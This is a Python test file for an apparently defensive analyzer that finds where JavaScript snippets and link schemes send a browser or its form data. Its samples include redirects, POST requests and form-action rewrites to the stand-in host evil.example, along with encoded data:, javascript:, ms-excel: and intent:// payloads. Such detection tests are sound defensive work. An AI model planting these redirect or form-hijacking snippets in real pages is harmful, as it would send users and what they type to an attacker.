"""Addresses inside code."""

import base64

import pytest

from analyzers.links.inside import MAX_FOUND, carried_by, opened_by


@pytest.mark.parametrize(
    "code",
    [
        "window.location = 'https://evil.example/'",
        'top.location.href="https://evil.example/"',
        "location.replace(`https://evil.example/`)",
        "window.open( 'https://evil.example/', '_blank')",
        "x.open('POST', 'https://evil.example/', true)",
        "fetch('https://evil.example/', {method: 'POST'})",
        "$.post('https://evil.example/', data)",
        "$.ajax({type: 'POST', url: 'https://evil.example/'})",
        "document.forms[0].action = 'https:\\/\\/evil.example\\/'",
        "frame.src='https://evil.example/'",
    ],
)
def test_scripts(code):
    """Where a script leads, and where it sends what was typed."""
    assert opened_by(code) == ("https://evil.example/",)


@pytest.mark.parametrize(
    "code", ["", "var a = 'https://evil.example/'", "relocation = 1", "location = page", "reopen('x y')"]
)
def test_scripts_that_open_nothing(code):
    """An address that nothing opens."""
    assert opened_by(code) == ()


def test_a_limit():
    """Fifty addresses of one script."""
    assert len(opened_by(";".join(f"location='https://h{n}.example/'" for n in range(999)))) == MAX_FOUND


@pytest.mark.parametrize(
    ("href", "found"),
    [
        ("javascript:void(location='https://evil.example/a')", ("https://evil.example/a",)),
        (
            "data:text/html,%3Cmeta%20http-equiv=refresh%20content='0;http://evil.example/a'%3E",
            ("http://evil.example/a",),
        ),
        (
            "data:text/html;base64," + base64.b64encode(b"<a href=https://evil.example/a>").decode(),
            ("https://evil.example/a",),
        ),
        ("data:text/html;base64,!", ()),
        ("ms-excel:ofv|u|https://evil.example/x.xlsx", ("https://evil.example/x.xlsx",)),
        ("intent://scan/#Intent;S.browser_fallback_url=https%3A%2F%2Fevil.example;end", ("https://evil.example",)),
        ("view-source:https://evil.example/a", ("https://evil.example/a",)),
        ("mailto:a@example.org?body=https://example.org/", ()),
        ("tel:+81", ()),
        ("no scheme https://evil.example/", ()),
        ("", ()),
    ],
)
def test_addresses_in_addresses(href, found):
    """What is written to somebody is no link; what is opened is one."""
    assert carried_by(href) == found
